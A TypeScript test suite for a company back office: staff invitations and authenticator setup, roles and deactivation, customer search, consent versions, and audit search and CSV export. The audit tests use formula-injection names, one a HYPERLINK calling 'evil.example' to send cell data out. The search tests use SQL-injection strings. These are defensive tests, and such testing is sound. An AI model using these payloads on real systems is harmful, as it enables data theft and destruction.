/** The company's own people, and what they do with customers, agreements and the audit (SPEC I1, I3, I8, I9, D2). */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { customerActions, customerRoles, staffActions, staffRoles } from '../../domain/permissions.ts';
import { signedIn, type ApiAnswer, type ApiDriver } from '../harness/api-driver.ts';
import { Authenticator } from '../harness/authenticator.ts';
import { startKontor, type Kontor } from '../harness/kontor.ts';
import { mailedLink, mailTo } from '../harness/mailed.ts';
import { MovableClock } from '../harness/movable-clock.ts';
import { testPassword, type TestStaff } from '../harness/people.ts';
import { changesOf, expectEnvelope } from './api-surroundings.ts';
import { attemptOf, browserOf, enter, neededConsents, someAddress, visitorOf } from './identity-surroundings.ts';

let kontor: Kontor;
let visitor: ApiDriver;
let desk: ApiDriver;
let maria: TestStaff;
const clock = new MovableClock();
clock.stop();

beforeAll(async () => {
  kontor = await startKontor({ clock });
  visitor = visitorOf(kontor.origin);
  desk = visitorOf(kontor.origin, 'staff');
  maria = await kontor.people.staff({ name: 'Maria Orlova', role: 'administrator' });
});
/** Each test begins with an administrator who signed in just now. */
beforeEach(async () => {
  clock.moveToHalfMinute();
  maria = { ...maria, ...(await enter(kontor, maria, 'staff')) };
});
afterAll(() => kontor?.stop());

const password = 'a walk along the river';

async function invitedToStaff(role = 'support', email = someAddress()): Promise<{ id: string; email: string; token: string }> {
  const invited = await maria.post('/staff-invitations', { email, role });
  expect(invited).toMatchObject({ status: 201, body: { email, role } });
  return { id: invited.body.id, email, token: await mailedLink(kontor.mail, email, 'invitation') };
}

describe('I1, I3: somebody new on the staff', () => {
  test('follows his invitation, chooses a password, sets his app up and is in; from then on his code is asked for', async () => {
    const { id, email, token } = await invitedToStaff();
    expect((await maria.get('/staff-invitations')).body.items.map((one: { id: string }) => one.id)).toContain(id);
    expect((await visitor.post('/auth/link', { token })).body).toMatchObject({
      purpose: 'invitation',
      email,
      invitation: { account: null, role: 'support', staff: true, known: false },
    });
    expectEnvelope(await visitor.post('/auth/invitation', { token, name: 'Pavel Gusev', password: 'too short' }), 400, 'request.invalid');
    const joined = await visitor.post('/auth/invitation', { token, name: 'Pavel Gusev', password, locale: 'ru' });
    expect([joined.status, joined.body, joined.headers.getSetCookie()]).toEqual([200, { email, staff: true }, []]);
    expect((await maria.get('/staff-invitations')).body.items.map((one: { id: string }) => one.id)).not.toContain(id);

    const first = await desk.post('/auth/sign-in', { email, password });
    expect(first.body).toEqual({ next: { what: 'set_up_totp', attempt: expect.any(String), expiresAt: expect.any(String) } });
    expect(first.headers.getSetCookie()).toEqual([]);
    const { attempt } = first.body.next;
    const setUp = (await desk.post('/auth/totp', { attempt })).body;
    expect(setUp.secret).toMatch(/^[A-Z2-7]{32}$/);
    expect(Buffer.from(setUp.qr.split(',')[1], 'base64').toString()).toContain('<svg');
    const uri = new URL(setUp.uri);
    expect([uri.protocol, uri.host, uri.searchParams.get('secret')]).toEqual(['otpauth:', 'totp', setUp.secret]);
    expect(decodeURIComponent(uri.pathname)).toContain(email);
    const app = new Authenticator(setUp.secret, clock);
    expectEnvelope(await desk.post('/auth/totp/confirmation', { attempt, code: '12345' }), 422, 'auth.code_wrong');
    const confirmed = await desk.post('/auth/totp/confirmation', { attempt, code: await app.code() });
    expect(confirmed.body).toMatchObject({ user: { email, name: 'Pavel Gusev', locale: 'ru' }, secondFactorSet: true });
    expect(new Set(confirmed.body.recoveryCodes).size).toBe(10);
    const me = (await browserOf(kontor.origin, confirmed, 'staff').get('/me')).body;
    expect(me).toMatchObject({ email, role: 'support', secondFactorSet: true });
    expect(me.permissions).toContain('ticket.answer');

    const again = (await desk.post('/auth/sign-in', { email, password })).body.next;
    expect(again).toMatchObject({ what: 'second_factor', methods: ['totp', 'recovery'] });
    const proven = await desk.post('/auth/second-factor', { attempt: again.attempt, method: 'totp', code: await app.code() });
    const browser = browserOf(kontor.origin, proven, 'staff');
    expect((await browser.get('/me/factors')).body).toMatchObject({ required: true, recoveryCodesLeft: 10, email: null });
    expectEnvelope(await browser.delete('/me/factors/totp'), 405, 'request.method_not_allowed');
    expectEnvelope(await visitor.post('/auth/sign-in', { email, password }), 401, 'auth.invalid_credentials');
    await mailTo(kontor.mail, email, /аутентификатор/i);
  });

  test('whose invitation was taken back, or is older than seven days, does not get in', async () => {
    const [taken, late] = [await invitedToStaff(), await invitedToStaff()];
    expect((await maria.delete(`/staff-invitations/${taken.id}`)).status).toBe(204);
    expectEnvelope(await maria.delete(`/staff-invitations/${taken.id}`), 404, 'invitation.not_found');
    expectEnvelope(await visitor.post('/auth/invitation', { token: taken.token, name: 'Eve', password }), 404, 'auth.link_invalid');
    clock.move(7 * 24 * 3600);
    expectEnvelope(await visitor.post('/auth/invitation', { token: late.token, name: 'Eve', password }), 404, 'auth.link_invalid');
    maria = { ...maria, ...(await enter(kontor, maria, 'staff')) };
    expect((await maria.get('/staff-invitations')).body.items).toEqual([]);
    expect(await kontor.db.query('select 1 from app_user where email = any($1)', [[taken.email, late.email]])).toEqual([]);
  });

  test('an owner’s invitation does not let anybody onto the staff, nor take an administrator’s back', async () => {
    const anna = await kontor.people.customer();
    const owner = await signedIn(kontor.origin, 'customer', anna.email, testPassword);
    expectEnvelope(await owner.post('/account/invitations', { email: someAddress(), role: 'administrator' }), 400, 'request.invalid');
    const { id } = await invitedToStaff();
    expectEnvelope(await owner.delete(`/account/invitations/${id}`), 404, 'invitation.not_found');
    const theirs = (await owner.post('/account/invitations', { email: someAddress(), role: 'billing' })).body.id;
    expectEnvelope(await maria.delete(`/staff-invitations/${theirs}`), 404, 'invitation.not_found');
  });
});

describe('I8: the staff and their roles', () => {
  const colleague = async (id: string) => (await maria.get('/staff')).body.items.find((one: { id: string }) => one.id === id);

  test('another role counts from the next request on', async () => {
    const oleg = await kontor.people.staff({ role: 'billing' });
    expectEnvelope(await oleg.post('/holds', { scope: 'all', reason: 'A test' }), 403, 'auth.not_permitted');
    expect((await maria.patch(`/staff/${oleg.id}`, { role: 'administrator' })).status).toBe(204);
    expect(await colleague(oleg.id)).toMatchObject({ role: 'administrator', secondFactorSet: true, disabledAt: null });
    const { id } = (await oleg.post('/holds', { scope: 'account', scopeId: (await kontor.people.customer()).accountId, reason: 'A test' }))
      .body;
    expect((await maria.patch(`/staff/${oleg.id}`, { role: 'support' })).status).toBe(204);
    expectEnvelope(await oleg.post(`/holds/${id}/lifting`), 403, 'auth.not_permitted');
    expect((await oleg.get('/me')).body.role).toBe('support');
  });

  test('whoever leaves is out at once, with every session and attempt; when he is back he signs in as before', async () => {
    const oleg = await kontor.people.staff();
    const other = await enter(kontor, oleg, 'staff');
    const attempt = await attemptOf(desk, oleg.email);
    expect((await maria.post(`/staff/${oleg.id}/deactivation`)).status).toBe(204);
    for (const driver of [oleg, other]) expectEnvelope(await driver.get('/me'), 401, 'auth.required');
    clock.move(90);
    expectEnvelope(
      await desk.post('/auth/second-factor', { attempt, method: 'totp', code: await oleg.app.code() }),
      409,
      'auth.attempt_over',
    );
    expectEnvelope(await desk.post('/auth/sign-in', { email: oleg.email, password: testPassword }), 401, 'auth.invalid_credentials');
    expectEnvelope(await maria.post(`/staff/${oleg.id}/deactivation`), 404, 'staff.not_found');
    expect((await colleague(oleg.id)).disabledAt).not.toBeNull();
    expect((await maria.get('/staff')).body.items.at(-1).disabledAt).not.toBeNull();

    expect((await maria.delete(`/staff/${oleg.id}/deactivation`)).status).toBe(204);
    for (const driver of [oleg, other]) expectEnvelope(await driver.get('/me'), 401, 'auth.required');
    expect((await (await enter(kontor, oleg, 'staff')).get('/me')).status).toBe(200);
  });

  test('a lost app is taken away: every session ends, he is told, and sets another up', async () => {
    const oleg = await kontor.people.staff();
    expect((await maria.post(`/staff/${oleg.id}/factor-reset`)).status).toBe(204);
    expectEnvelope(await oleg.get('/me'), 401, 'auth.required');
    await mailTo(kontor.mail, oleg.email, /second factors/i);
    const { next } = (await desk.post('/auth/sign-in', { email: oleg.email, password: testPassword })).body;
    expect(next.what).toBe('set_up_totp');
    clock.move(90);
    const { attempt } = next;
    expectEnvelope(
      await desk.post('/auth/second-factor', { attempt, method: 'totp', code: await oleg.app.code() }),
      422,
      'auth.code_wrong',
    );
  });

  test('a customer is no member of staff, whatever is asked about him', async () => {
    const anna = await kontor.people.customer();
    await kontor.settled();
    const changes = await changesOf(kontor.db, async () => {
      for (const answer of [
        await maria.patch(`/staff/${anna.id}`, { role: 'support' }),
        await maria.post(`/staff/${anna.id}/deactivation`),
        await maria.delete(`/staff/${anna.id}/deactivation`),
        await maria.post(`/staff/${anna.id}/factor-reset`),
      ])
        expectEnvelope(answer, 404, 'staff.not_found');
      for (const path of ['password-reset', 'factor-reset', 'email-change']) {
        const body =
          path === 'password-reset' ? undefined : { reason: 'A test', ...(path === 'email-change' ? { email: someAddress() } : {}) };
        expectEnvelope(await maria.post(`/users/${maria.id}/${path}`, body), 404, 'customer.not_found');
      }
    });
    expect(changes).toEqual([]);
  });

  test('the table that is shown is the table that is asked', async () => {
    const { body } = await (await kontor.people.staff({ role: 'billing' })).get('/roles');
    expect([body.staffRoles, body.customerRoles]).toEqual([staffRoles, customerRoles]);
    for (const [shown, table] of [
      [body.staff, staffActions],
      [body.customers, customerActions],
    ])
      expect(shown).toEqual(
        Object.entries(table).map(([action, rule]) => ({ action, signedIn: false, stepUp: false, ...(rule as object) })),
      );
  });
});

describe('I8: there is always an administrator', () => {
  let alone: Kontor;
  let first: TestStaff;
  let second: TestStaff;

  beforeAll(async () => {
    alone = await startKontor({ promises: false });
    first = await alone.people.staff({ role: 'administrator' });
  });
  afterAll(() => alone?.stop());

  const administrators = async () =>
    (await alone.db.query(`select 1 from app_user where staff_role = 'administrator' and disabled_at is null`)).length;

  test('the last cannot give the role up, or leave', async () => {
    await alone.people.staff({ role: 'support' });
    for (const answer of [
      await first.patch(`/staff/${first.id}`, { role: 'support' }),
      await first.patch(`/staff/${first.id}`, { role: 'billing' }),
      await first.post(`/staff/${first.id}/deactivation`),
    ])
      expectEnvelope(answer, 409, 'staff.last_administrator');
    expect((await first.patch(`/staff/${first.id}`, { role: 'administrator' })).status).toBe(204);
    // One who left does not count.
    second = await alone.people.staff({ role: 'administrator' });
    expect((await first.post(`/staff/${second.id}/deactivation`)).status).toBe(204);
    expectEnvelope(await first.post(`/staff/${first.id}/deactivation`), 409, 'staff.last_administrator');
    expect(await administrators()).toBe(1);
  });

  test.each(['leave', 'lose the role'])('of two who make each other %s at once one stays', async (how) => {
    const ways: Record<string, (by: ApiDriver, id: string) => Promise<ApiAnswer>> = {
      leave: (by, id) => by.post(`/staff/${id}/deactivation`),
      'lose the role': (by, id) => by.patch(`/staff/${id}`, { role: 'support' }),
    };
    for (let round = 0; round < 4; round += 1) {
      await alone.db.query(`update app_user set disabled_at = now() where staff_role = 'administrator'`);
      [first, second] = [await alone.people.staff({ role: 'administrator' }), await alone.people.staff({ role: 'administrator' })];
      const answers = await Promise.all([ways[how]!(first, second.id), ways[how]!(second, first.id)]);
      expect(answers.filter((answer) => answer.status === 204)).toHaveLength(1);
      expect(await administrators()).toBe(1);
    }
  });
});

describe('I1: customers, as staff see them', () => {
  test('are found by name, by a member’s name or address, and by id; what is typed is text and no pattern', async () => {
    const mark = someAddress().split('@')[0]!;
    const anna = await kontor.people.customer({ name: `Anna ${mark}` });
    const owner = await signedIn(kontor.origin, 'customer', anna.email, testPassword);
    await owner.patch('/account', { name: `100%_${mark}\\ Ltd` });
    clock.move(1);
    const boris = await kontor.people.customer({ account: { id: anna.accountId, role: 'billing' } });
    await anna.post('/tickets', { subject: 'A panel', body: 'It does not start', category: 'technical' });
    const found = async (search: string) =>
      (await maria.get(`/customers?search=${encodeURIComponent(search)}`)).body.items.map((customer: { id: string }) => customer.id);
    for (const search of [
      mark,
      mark.toUpperCase(),
      `Anna ${mark}`,
      anna.email,
      anna.accountId,
      anna.id,
      boris.email,
      `100%_${mark}`,
      `${mark}\\`,
      ` ${mark} `,
    ])
      expect(await found(search), search).toContain(anna.accountId);
    for (const search of [`1%_${mark}`, `${mark}_`, `%${mark}x`, `'; drop table account; --`])
      expect(await found(search), search).toEqual([]);
    const { items } = (await maria.get(`/customers?search=${mark}`)).body;
    expect(items).toEqual([
      {
        id: anna.accountId,
        name: `100%_${mark}\\ Ltd`,
        currency: 'RUB',
        city: null,
        createdAt: expect.any(String),
        owner: { id: anna.id, name: anna.name, email: anna.email },
        users: 2,
        openTickets: 1,
      },
    ]);
    const invited = (await owner.post('/account/invitations', { email: someAddress(), role: 'technical' })).body;
    const page = (await maria.get(`/customers/${anna.accountId}`)).body;
    expect(page.members.map((member: { id: string; role: string }) => [member.id, member.role])).toEqual([
      [anna.id, 'owner'],
      [boris.id, 'billing'],
    ]);
    expect(page.invitations).toMatchObject([{ id: invited.id, role: 'technical' }]);
    expectEnvelope(await maria.get('/customers/acc_00000000000000000000000000'), 404, 'customer.not_found');
    expectEnvelope(await maria.get(`/customers?search=${encodeURIComponent('a\u0000b')}`), 400, 'request.invalid');
  });

  test('page through ties, each once', async () => {
    await kontor.db.query(`update account set created_at = date_trunc('day', created_at)`);
    const all = (await maria.get('/customers?limit=100')).body.items.map((customer: { id: string }) => customer.id);
    expect(all.length).toBeGreaterThan(4);
    const seen: string[] = [];
    for (let cursor = ''; ;) {
      const page: ApiAnswer = await maria.get(`/customers?limit=2${cursor && `&cursor=${cursor}`}`);
      seen.push(...page.body.items.map((customer: { id: string }) => customer.id));
      if (page.body.nextCursor === null) break;
      cursor = page.body.nextCursor;
    }
    expect(seen).toEqual(all);
  });

  test('I5: are mailed a link to choose a new password; staff neither type nor see one', async () => {
    const anna = await kontor.people.customer();
    const answer = await maria.post(`/users/${anna.id}/password-reset`);
    expect([answer.status, answer.body]).toEqual([202, { id: anna.id }]);
    const token = await mailedLink(kontor.mail, anna.email, 'password-reset');
    expect(JSON.stringify(answer.body)).not.toContain(token);
    // Words that the route does not ask for are heard by nobody.
    expect((await maria.post(`/users/${anna.id}/password-reset`, { password: 'chosen by staff' })).status).toBe(202);
    expectEnvelope(await visitor.post('/auth/sign-in', { email: anna.email, password: 'chosen by staff' }), 401);
    expect((await visitor.post('/auth/password-reset/confirmation', { token, password })).status).toBe(204);
    expect((await visitor.post('/auth/sign-in', { email: anna.email, password })).status).toBe(200);
  });
});

test('D2: a new wording is a new version: what was agreed to stays, and nobody new agrees to the old one', async () => {
  const anna = await kontor.people.customer();
  const browser = await signedIn(kontor.origin, 'customer', anna.email, testPassword);
  expect((await browser.post('/me/consents', { purpose: 'marketing', version: 1 })).status).toBe(201);
  const wording = {
    purpose: 'marketing',
    title: { en: 'News', ru: 'Новости' },
    body: { en: 'We write to you.\n\nSeldom.', ru: 'Мы пишем вам.' },
  };
  const published = await Promise.all(Array.from({ length: 3 }, () => maria.post('/consent-texts', wording)));
  expect(new Set(published.map((answer) => answer.body.version))).toEqual(new Set([2, 3, 4]));
  expect((await maria.get('/consent-texts')).body.items.find((text: { purpose: string }) => text.purpose === 'marketing')).toMatchObject({
    ...wording,
    version: 4,
  });
  for (const [language, title] of [
    ['ru', 'Новости'],
    ['en', 'News'],
  ] as const) {
    const { items } = (await visitor.get('/consent-texts', { 'accept-language': language })).body;
    expect(items.find((text: { purpose: string }) => text.purpose === 'marketing')).toMatchObject({ version: 4, title, needed: false });
  }
  const registering = (version: number) =>
    visitor.post('/auth/registration', {
      email: someAddress(),
      name: 'Anna',
      accountName: 'Vega',
      consents: [...neededConsents, { purpose: 'marketing', version }],
    });
  expectEnvelope(await registering(1), 422, 'consent.version_old');
  expect((await registering(4)).status).toBe(202);
  expectEnvelope(await browser.post('/me/consents', { purpose: 'marketing', version: 3 }), 422, 'consent.version_old');
  const standing = async () =>
    (await browser.get('/me/consents')).body.items
      .filter((consent: { withdrawnAt: string | null }) => consent.withdrawnAt === null)
      .map((consent: { version: number }) => consent.version);
  expect(await standing()).toEqual([1]);
  expect((await browser.post('/me/consents', { purpose: 'marketing', version: 4 })).status).toBe(201);
  expect(await standing()).toEqual([4]);
  expect((await browser.delete('/me/consents/marketing')).status).toBe(204);
  expect(await standing()).toEqual([]);
  expectEnvelope(await browser.delete('/me/consents/marketing'), 404, 'consent.not_found');
  expectEnvelope(await browser.delete('/me/consents/terms'), 422, 'consent.needed');
});

describe('I9: the audit', () => {
  const formula = '=HYPERLINK("http://evil.example?"&A1)';
  const formulas = [formula, '+1+1', '-1', '@SUM(A1:A9)'];
  let people: { id: string; name: string }[];
  let began: Date;

  beforeAll(async () => {
    clock.move(10);
    began = clock.now();
    people = [];
    for (const name of formulas) {
      const person = await kontor.people.customer({ name });
      people.push({ id: person.id, name });
      const browser = await signedIn(kontor.origin, 'customer', person.email, testPassword);
      clock.move(1);
      await browser.patch('/account', { name: 'Vega' });
      clock.move(1);
      await maria.post(`/users/${person.id}/password-reset`);
      clock.move(1);
    }
  });

  async function lines(query: string): Promise<any[]> {
    const seen: any[] = [];
    for (let cursor = ''; ;) {
      const page: ApiAnswer = await maria.get(`/audit?limit=3&${query}${cursor && `&cursor=${cursor}`}`);
      expect(page.status, query).toBe(200);
      seen.push(...page.body.items);
      if (page.body.nextCursor === null) break;
      cursor = page.body.nextCursor;
    }
    expect(new Set(seen.map((line) => line.id)).size).toBe(seen.length);
    const instants: string[] = seen.map((line) => line.at);
    expect(instants).toEqual(instants.toSorted().toReversed());
    return seen;
  }
  const what = (found: any[]) => found.map((line) => line.action);

  test('is searched by who did it or whom it was done to, by thing, action and period, together and page by page', async () => {
    const { id } = people[0]!;
    expect(what(await lines(`person=${id}`))).toEqual(['customer.password_reset', 'account.change', 'auth.signed_in']);
    expect(what(await lines(`object=user:${id}`))).toEqual(['customer.password_reset', 'auth.signed_in']);
    expect(what(await lines(`person=${id}&action=account.change`))).toEqual(['account.change']);
    expect(what(await lines(`person=${id}&action=auth.`))).toEqual(['auth.signed_in']);
    expect(await lines(`person=${id}&action=auth`)).toEqual([]);
    const from = began.toISOString();
    expect((await lines(`from=${from}&action=customer.password_reset`)).map((line) => line.whom)).toEqual(people.toReversed());
    const [whole] = await lines(`person=${id}&action=customer.password_reset`);
    expect(whole).toMatchObject({ actorKind: 'staff', actor: { id: maria.id, name: maria.name }, whom: people[0], address: '127.0.0.1' });
    expect(await lines(`person=${id}&from=${whole.at}`)).toEqual([whole]);
    expect(what(await lines(`person=${id}&to=${whole.at}`))).toEqual(['account.change', 'auth.signed_in']);
    expect(await lines(`person=${id}&from=${whole.at}&to=${whole.at}`)).toEqual([]);
    const since = await lines(`from=${from}`);
    expect(since.filter((line) => line.action !== 'auth.signed_in' || line.actor.id !== maria.id)).toHaveLength(12);
    const items: string[] = (await maria.get('/audit/actions')).body.items;
    expect(items).toEqual([...new Set(items)].toSorted());
    expect(items).toContain('account.change');
  });

  test('E: a filter that is none is refused by name', async () => {
    for (const query of [
      'person=usr_1',
      `person=${people[0]!.id}%20`,
      'person=',
      "object=' or true --",
      'object=',
      'action=auth.%25',
      'action=a%0ab',
      'from=yesterday',
      'to=2026-02-31T00:00:00Z',
      'cursor=garbage',
      'limit=0',
      'whom=usr_1',
    ]) {
      const answer = await maria.get(`/audit?${query}`);
      expectEnvelope(answer, 400);
      if (!query.startsWith('cursor')) expect(answer.body.error.details[0].field).toBe(query.split('=')[0]);
    }
  });

  test('I10: is exported with the same filters, to somebody with a fresh code, and no cell is a formula', async () => {
    maria = { ...maria, ...(await enter(kontor, maria, 'staff')) };
    const query = `from=${began.toISOString()}&action=customer.password_reset`;
    const answer = await maria.get<string>(`/audit/export?${query}`);
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="[\w.-]+"$/);
    const rows = answer.body.trim().split('\n');
    expect(rows).toHaveLength(1 + people.length);
    for (const { id, name } of people) {
      const row = rows.find((line) => line.includes(id))!;
      expect(row).toContain(`'${name.includes('"') ? name.replaceAll('"', '""') : name}`);
      expect(row).not.toMatch(/(?:^|,)"?[=+@-]/);
    }
    expect((await maria.get(`/audit/export?person=${people[0]!.id}`)).body.trim().split('\n')).toHaveLength(4);
    expect(what(await lines(`person=${maria.id}&action=audit.`))).toEqual(['audit.export', 'audit.export']);
    expectEnvelope(await maria.get('/audit/export?limit=1'), 400, 'request.invalid');
    clock.move(5 * 60);
    expectEnvelope(await maria.get(`/audit/export?${query}`), 403, 'auth.step_up_required');
    const renewed = await maria.post('/me/step-up', { method: 'totp', code: await maria.app.code() });
    expect((await browserOf(kontor.origin, renewed, 'staff').get(`/audit/export?${query}`)).status).toBe(200);
  });
});
